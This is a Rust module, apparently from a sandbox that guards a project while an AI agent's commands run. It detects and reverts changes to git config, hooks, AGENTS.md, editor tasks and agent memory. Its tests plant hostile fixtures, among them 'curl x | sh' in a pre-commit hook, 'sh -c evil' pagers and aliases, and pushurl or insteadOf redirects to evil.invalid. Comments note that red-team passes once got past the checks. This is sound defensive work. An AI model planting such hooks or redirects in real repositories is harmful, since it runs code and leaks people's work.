    if changed.is_empty() {
        return None;
    }
    let mut named = changed
        .iter()
        .take(NAMED)
        .cloned()
        .collect::<Vec<_>>()
        .join(", ");
    if changed.len() > NAMED {
        named.push_str(&format!(" and {} more", changed.len() - NAMED));
    }
    let programs = classifier::GitConfig {
        files: vec![now.to_string()],
    }
    .program_keys();
    let worst = if let Some(include) = changed.iter().find(|key| key.starts_with("include")) {
        format!("its configuration now includes another file ({include})")
    } else if let Some(program) = changed.iter().find(|key| programs.contains(key)) {
        format!("its configuration now runs a program ({program})")
    } else {
        "its configuration was changed as git's ordinary work does not change it (deny by \
         default: such a change can send the person's next checkout, fetch or push elsewhere)"
            .to_string()
    };
    Some(format!(
        "{worst}; the changes git's ordinary work does not make there: {named}"
    ))
}

/// The entries of a git configuration, each with the section header it is under (a header is
/// its own entry too: `[core] fsmonitor = x` is one line); lines continued with a backslash are
/// joined, comments and blank lines left out.
fn config_lines(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut header = String::new();
    // As git reads them: a backslash ending a comment does not join the next line to it.
    for line in classifier::GitConfig::logical_lines(text) {
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if line.starts_with('[') {
            header = line.clone();
        }
        out.push((header.clone(), line));
    }
    out
}

/// Moves what the command left at `path` into the quarantine and puts `before` back there
/// (a hook that was not there before is only moved); the line that says so. The previous
/// version is written back through the descriptor of the directory it was moved out of, so a
/// link the command left on the way cannot send it elsewhere.
fn move_aside_and_put_back(
    root: &Path,
    path: &Path,
    why: &str,
    before: Option<&Content>,
) -> String {
    let name = path
        .strip_prefix(root)
        .unwrap_or(path)
        .display()
        .to_string();
    let (spot, aside) = match set_aside(root, path) {
        Ok(done) => done,
        Err(e) => {
            return format!(
                "[gg: the command changed {name}, {why}, and it could not be moved aside ({e}): \
                 look at it before running git there]"
            );
        }
    };
    let put_back = before.map(|content| content.put_back(&spot.dir, &spot.name));
    let theirs = match &aside {
        Aside::Quarantined(target) => format!("its version moved to {}", target.display()),
        Aside::Deleted(refused) => format!("its version deleted ({refused})"),
    };
    match put_back {
        None => format!("[gg: the command created {name}, {why}; {}]", aside.done()),
        Some(Ok(())) => {
            format!("[gg: the command changed {name}, {why}; {theirs}, the previous one put back]")
        }
        Some(Err(e)) => format!(
            "[gg: the command changed {name}, {why}; {theirs}, and the previous one could not \
             be put back ({e})]"
        ),
    }
}

/// `path` as the tool output names it: relative to the project.
fn shown(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .display()
        .to_string()
}

/// The directory `name` in `dir`, opened without following a link.
fn open_dir(dir: impl std::os::fd::AsFd, name: impl rustix::path::Arg) -> std::io::Result<OwnedFd> {
    use rustix::fs::{Mode, OFlags};
    Ok(rustix::fs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )?)
}

/// The names in the directory open at `fd`, but `.` and `..`.
fn dir_names(fd: &OwnedFd) -> std::io::Result<Vec<OsString>> {
    use std::os::unix::ffi::OsStrExt;
    let mut names = Vec::new();
    for entry in rustix::fs::Dir::read_from(fd)? {
        let entry = entry?;
        let name = entry.file_name().to_bytes();
        if name != b"." && name != b".." {
            names.push(OsStr::from_bytes(name).to_os_string());
        }
    }
    Ok(names)
}

/// The names directly inside `dir`, all of them: `None` when it is not a directory or could
/// not be listed whole (failing as [`listing::read_dir`] does, with its line).
fn listed_names(dir: &Path) -> Option<Vec<OsString>> {
    if !std::fs::symlink_metadata(dir).is_ok_and(|meta| meta.is_dir()) {
        return None;
    }
    listing::read_dir(dir)
        .ok()?
        .map(|entry| entry.map(|e| e.file_name()))
        .collect::<std::io::Result<Vec<_>>>()
        .ok()
}

/// The names directly inside `dir` (none when it is not a directory).
fn names(dir: &Path) -> Vec<OsString> {
    match std::fs::symlink_metadata(dir) {
        Ok(meta) if meta.is_dir() => listing::read_dir(dir)
            .map(|entries| entries.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default(),
        _ => Vec::new(),
    }
}

/// A file that a command may have made, read so that it can neither hang nor flood the sweep:
/// a FIFO with no writer blocks `open` for good, and the sweep runs after the command has ended,
/// so no timeout covers it (an attacker pass left `z/config` a FIFO and the run hung). Only a
/// regular file of at most [`MAX_KEPT`] bytes is read ([`sandbox::protected::read_regular`],
/// following a link only if `follow`). `Ok(None)`: absent; `Err`: what it is instead, for the
/// caller to count against it (fail closed).
fn read_regular(path: &Path, follow: bool) -> Result<Option<Vec<u8>>, String> {
    use sandbox::protected::{LastLink, Unreadable};
    let links = if follow {
        LastLink::Follow
    } else {
        LastLink::Refuse
    };
    match sandbox::protected::read_regular(path, MAX_KEPT, links) {
        Ok(bytes) => Ok(Some(bytes)),
        Err(Unreadable::Absent(_)) => Ok(None),
        Err(Unreadable::NotRegular(kind)) => Err(kind.to_string()),
        Err(Unreadable::TooLarge(_)) => Err("larger than git writes".to_string()),
        Err(Unreadable::Failed(e)) => Err(format!("unreadable ({e})")),
    }
}

/// [`read_regular`] without following a link, as text (`None`: absent, or not a regular file).
fn read_text(path: &Path) -> Option<String> {
    read_regular(path, false)
        .ok()
        .flatten()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
}

/// A test-hooks build can hold every sweep for `GG_TEST_SWEEP_STALL_SECS` seconds before it
/// starts, so that a test can show that gg, signalled during a command, does not wait for a
/// sweep without bound (`sandbox::leftovers::STOP_GRACE`).
fn stall_for_a_test() {
    #[cfg(feature = "test-hooks")]
    if let Some(secs) = std::env::var("GG_TEST_SWEEP_STALL_SECS")
        .ok()
        .and_then(|v| v.parse::<u64>().ok())
    {
        std::thread::sleep(Duration::from_secs(secs));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PERSONS: &str = "[core]\n\trepositoryformatversion = 0\n\tpager = less\n\
                           [remote \"origin\"]\n\turl = https://example.invalid/x.git\n";

    #[test]
    fn what_git_writes_is_not_an_unexplained_change() {
        // `git branch -u`, `git config user.name`: the person's pager does not count.
        let now = format!("{PERSONS}[branch \"main\"]\n\tremote = origin\n[user]\n\tname = x\n");
        assert_eq!(unexplained_change(PERSONS, &now), None);
        assert_eq!(unexplained_change(PERSONS, PERSONS), None);
    }

    #[test]
    fn an_added_or_changed_program_or_include_counts() {
        for now in [
            format!("{PERSONS}[core]\n\tfsmonitor = \"touch /tmp/x; false\"\n"),
            PERSONS.replace("pager = less", "pager = sh -c evil"),
            // Under the section the command left last.
            PERSONS.replace("[remote \"origin\"]\n", "") + "\thooksPath = .h\n",
            format!("{PERSONS}[core] editor = evil\n"),
            format!("{PERSONS}[alias]\n\tx = \\\n!sh -c evil\n"),
            format!("{PERSONS}[includeIf \"gitdir:/\"]\n\tpath = ../inc\n"),
        ] {
            assert!(unexplained_change(PERSONS, &now).is_some(), "{now}");
        }
    }

    /// Found by an attacker pass at the landlock level: keys that run no program but send the
    /// person's checkout or push elsewhere were kept in `.git/config`.
    #[test]
    fn a_change_git_would_not_make_is_unexplained() {
        for (now, key) in [
            (
                format!("{PERSONS}[core]\n\tworktree = ../../home\n"),
                "core.worktree",
            ),
            (
                format!("{PERSONS}[http]\n\tproxy = http://127.0.0.1:9\n"),
                "http.proxy",
            ),
            (
                format!("{PERSONS}[url \"https://evil.invalid/\"]\n\tinsteadOf = https://x/\n"),
                "insteadof",
            ),
            (
                PERSONS.replace(
                    "url = https",
                    "pushurl = https://evil.invalid\n\turl = https",
                ),
                "remote.origin.pushurl",
            ),
        ] {
            let why = unexplained_change(PERSONS, &now);
            assert!(
                why.as_deref().is_some_and(|why| why.contains(key)),
                "{now}: {why:?}"
            );
        }
        // Every key is named up to a bound (the line goes to the model), a program first.
        let many: String = (0..20).map(|i| format!("[http]\n\tk{i} = x\n")).collect();
        let now = format!("{PERSONS}{many}[core]\n\tworktree = ../../home\n");
        let why = unexplained_change(PERSONS, &now).unwrap();
        assert!(
            why.starts_with("its configuration now runs a program (core.worktree)"),
            "{why}"
        );
        assert!(
            why.contains("http.k0, ") && why.ends_with("and 13 more"),
            "{why}"
        );
    }

    /// Where `.gg/quarantine` is a link, a planted directory is deleted, and a link inside it
    /// is removed as itself: what it names (outside the project) is untouched. A FIFO is read
    /// as what it is, without blocking.
    #[test]
    fn a_linked_quarantine_is_refused_and_deletion_follows_no_link() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("p");
        let outside = tmp.path().join("outside");
        std::fs::create_dir_all(root.join(".gg")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("keep"), "the person's").unwrap();
        std::os::unix::fs::symlink(&outside, root.join(".gg/quarantine")).unwrap();
        let planted = root.join("sub/.vscode");
        std::fs::create_dir_all(planted.join("deep")).unwrap();
        std::fs::write(planted.join("deep/tasks.json"), "{}").unwrap();
        std::os::unix::fs::symlink(&outside, planted.join("deep/l")).unwrap();
        let lines = quarantine(&root, &[(planted.clone(), "why".into())]);
        assert!(lines[0].contains("symbolic link"), "{lines:?}");
        assert!(std::fs::symlink_metadata(&planted).is_err(), "{lines:?}");
        assert!(root.join("sub").is_dir());
        assert_eq!(
            std::fs::read_to_string(outside.join("keep")).unwrap(),
            "the person's"
        );
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1);

        let fifo = root.join("fifo");
        rustix::fs::mknodat(
            rustix::fs::CWD,
            &fifo,
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
        assert_eq!(read_regular(&fifo, true), Err("a FIFO".to_string()));
        assert_eq!(read_regular(&root.join("absent"), false), Ok(None));
    }

    /// The copy of `.gg` taken from the last command's keeps only what has not changed since:
    /// a file rewritten between commands (same size, by gg's own tools or the person) is read
    /// again, so what is put back after the next command is its new text.
    /// A typical project: other agents' instructions, an editor's settings and husky's hooks.
    fn typical_project(root: &Path) {
        std::fs::write(
            root.join("AGENTS.md"),
            "the person's instructions\n".repeat(40),
        )
        .unwrap();
        std::fs::create_dir_all(root.join(".vscode")).unwrap();
        for name in [
            "settings.json",
            "tasks.json",
            "extensions.json",
            "launch.json",
        ] {
            std::fs::write(root.join(".vscode").join(name), "{}\n".repeat(30)).unwrap();
        }
        std::fs::create_dir_all(root.join(".husky/_")).unwrap();
        for hook in ["pre-commit", "commit-msg", "pre-push"] {
            std::fs::write(root.join(".husky").join(hook), "npx lint-staged\n").unwrap();
            std::fs::write(
                root.join(".husky/_").join(hook),
                ". \"$(dirname \"$0\")/h\"\n",
            )
            .unwrap();
        }
        std::fs::write(root.join(".husky/_/h"), "#!/usr/bin/env sh\n".repeat(20)).unwrap();
        std::fs::write(root.join("README.md"), "not protected").unwrap();
    }

    #[test]
    fn existing_protected_entries_are_kept_and_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        typical_project(root);
        let kept = Kept::look_protected(root, Vec::new(), Vec::new()).unwrap();
        let names: Vec<&Path> = kept.iter().map(|k| k.rel.as_path()).collect();
        assert_eq!(names.len(), 3, "{names:?}");
        for kept in &kept {
            assert!(kept.sweep(root).is_empty());
        }
        // Unchanged since the last copy: taken from it, and still nothing to put back.
        let kept = Kept::look_protected(root, kept, Vec::new()).unwrap();
        std::fs::write(root.join(".husky/pre-commit"), "curl x | sh\n").unwrap();
        std::fs::remove_file(root.join("AGENTS.md")).unwrap();
        std::fs::write(root.join(".vscode/new.json"), "{}").unwrap();
        let lines: Vec<String> = kept.iter().flat_map(|k| k.sweep(root)).collect();
        assert_eq!(lines.len(), 3, "{lines:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".husky/pre-commit")).unwrap(),
            "npx lint-staged\n"
        );
        assert!(root.join("AGENTS.md").is_file());
        assert!(!root.join(".vscode/new.json").exists());
    }

    /// What keeping the protected entries costs a command at the landlock level in a typical
    /// project (the copy taken from the last one, then the comparison after it):
    /// `cargo test -p tools --release -- --ignored --nocapture protected_keeping_cost`.
    #[test]
    #[ignore = "a measurement, not a check"]
    fn protected_keeping_cost() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        typical_project(root);
        let mut kept = Kept::look_protected(root, Vec::new(), Vec::new()).unwrap();
        const ROUNDS: u32 = 2_000;
        let start = std::time::Instant::now();
        for _ in 0..ROUNDS {
            kept = Kept::look_protected(root, kept, Vec::new()).unwrap();
            for entry in &kept {
                assert!(entry.sweep(root).is_empty());
            }
        }
        eprintln!(
            "keeping the protected entries: {:?} per command",
            start.elapsed() / ROUNDS
        );
    }

    #[test]
    fn the_kept_gg_is_read_again_where_it_changed() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        std::fs::create_dir_all(root.join(".gg/memory")).unwrap();
        std::fs::write(root.join(".gg/memory/MEMORY.md"), "first").unwrap();
        let kept = Kept::look(root, None).unwrap();
        assert!(kept.sweep(root).is_empty());
        std::fs::write(root.join(".gg/memory/MEMORY.md"), "later").unwrap();
        let kept = Kept::look(root, Some(kept)).unwrap();
        // The command's change, then the sweep.
        std::fs::write(root.join(".gg/memory/MEMORY.md"), "THEIRS").unwrap();
        let lines = kept.sweep(root);
        assert!(lines[0].contains("put back"), "{lines:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".gg/memory/MEMORY.md")).unwrap(),
            "later"
        );
        // Unchanged since: taken from the copy, and still what is there.
        let kept = Kept::look(root, Some(kept)).unwrap();
        assert!(kept.sweep(root).is_empty());
    }

    /// The look reads `.git/config` and `config.worktree` once and asks for included files only
    /// where one of them holds the word: an include in any case, in either file, still has the
    /// work-tree file it names compared and put back.
    #[test]
    fn an_included_file_is_compared_whatever_the_case_of_its_section() {
        const PERSON: &str = "[user]\n\tname = x\n";
        for (config, worktree) in [
            ("[InClude]\n\tpath = ../team.gitconfig\n", None),
            (
                "[core]\n\tbare = false\n",
                Some("[INCLUDEIF \"gitdir:/\"]\n\tpath = ../team.gitconfig\n"),
            ),
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let root = tmp.path();
            std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
            std::fs::write(root.join(".git/config"), config).unwrap();
            if let Some(text) = worktree {
                std::fs::write(root.join(".git/config.worktree"), text).unwrap();
            }
            std::fs::write(root.join("team.gitconfig"), PERSON).unwrap();
            let dirs = Arc::new(Mutex::new(ProjectDirs::new()));
            let before = Before::look(root, dirs, false).unwrap();
            std::fs::write(root.join("team.gitconfig"), "[core]\n\tfsmonitor = evil\n").unwrap();
            let lines = before.sweep();
            assert!(
                lines.iter().any(|l| l.contains("team.gitconfig")),
                "{config}: {lines:?}"
            );
            assert_eq!(
                std::fs::read_to_string(root.join("team.gitconfig")).unwrap(),
                PERSON
            );
        }
    }

    #[test]
    fn git_directories_split_by_commondir_are_git_directories() {
        let tmp = tempfile::tempdir().unwrap();
        let docs = tmp.path().join("docs");
        std::fs::create_dir_all(docs.join("_c/objects")).unwrap();
        std::fs::create_dir_all(docs.join("_c/refs")).unwrap();
        assert!(!is_git_like(&docs));
        std::fs::write(docs.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        assert!(!is_git_like(&docs));
        std::fs::write(docs.join("commondir"), "_c\n").unwrap();
        assert!(is_git_like(&docs));
        // Judged by what git obeys there: the shared directory's config.
        std::fs::write(docs.join("_c/config"), "[core]\n\tpager = evil\n").unwrap();
        let why = untrusted_git_dir(&docs, None, 0).unwrap();
        assert!(why.contains("core.pager"), "{why}");
        std::fs::write(docs.join("_c/config"), "[core]\n\tbare = true\n").unwrap();
        assert!(untrusted_git_dir(&docs, None, 0).is_some());
    }
}
